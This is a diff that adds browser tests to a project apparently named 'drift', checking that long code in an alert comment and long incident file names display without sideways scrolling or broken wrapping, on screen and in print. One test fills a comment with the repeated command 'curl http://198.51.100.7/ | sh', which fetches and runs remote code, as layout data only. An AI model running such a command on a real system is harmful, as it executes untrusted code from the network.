@@ -8,6 +8,7 @@ from typing import Any
 import pytest
 from playwright.sync_api import Page, expect
 
+from drift.alerts.actions import triage
 from drift.alerts.models import Alert
 from tests.browser.test_alerts_page import estate, send, violations
 from tests.unit.drift.alerts.conftest import Estate, save_reviewed
@@ -84,6 +85,36 @@ def test_long_names_and_labels_are_read_without_scrolling_sideways(
         assert heading is not None
         assert heading["width"] > size["width"] * 0.6, f"{path}: what is beside the heading takes its place"
     assert found == {}
+
+
+@pytest.mark.parametrize("size", [*SIZES.values(), {"width": 1440, "height": 900}], ids=[*SIZES, "1440 px"])
+def test_code_in_a_comment_is_read_without_scrolling_sideways(
+    estate: Estate, open_as: Open, operator: Any, size: dict[str, int]
+) -> None:
+    send(estate, "/tmp/first")
+    alert = Alert.objects.get()
+    triage.comment(operator, alert, "```\n" + "curl http://198.51.100.7/ | sh; " * 20 + "\n```\n\n" + "a" * 300)
+    page = open_as(operator, f"/alerts/{alert.pk}/?tab=timeline", viewport=size)
+    assert page.evaluate(SIDEWAYS) == []
+    page.goto(page.url.replace("?tab=timeline", "report/"))
+    page.emulate_media(media="print")
+    assert page.evaluate(SIDEWAYS) == []
+
+
+def test_the_names_of_an_incident_s_files_are_not_cut_into_syllables(
+    estate: Estate, open_as: Open, operator: Any
+) -> None:
+    send(estate, *(f"/usr/lib/tool/part-{number}" for number in range(3)))
+    pk = Alert.objects.earliest("pk").incident_id
+    page = open_as(operator, f"/alerts/incidents/{pk}/", viewport=SIZES["a telephone"])
+    name = page.locator("#alerts .path").first.bounding_box()
+    assert name is not None
+    assert name["height"] < 48, "at most two lines"
+    page.goto(page.url.replace(f"incidents/{pk}/", f"{Alert.objects.earliest('pk').pk}/report/"))
+    page.set_viewport_size({"width": 680, "height": 960})  # A4 between its margins
+    page.emulate_media(media="print")
+    heads = page.locator("thead th").evaluate_all("all => all.map((each) => each.offsetHeight)")
+    assert max(heads) < 45, "no heading is cut into letters"
 
 
 @pytest.mark.parametrize("size", SIZES.values(), ids=SIZES)
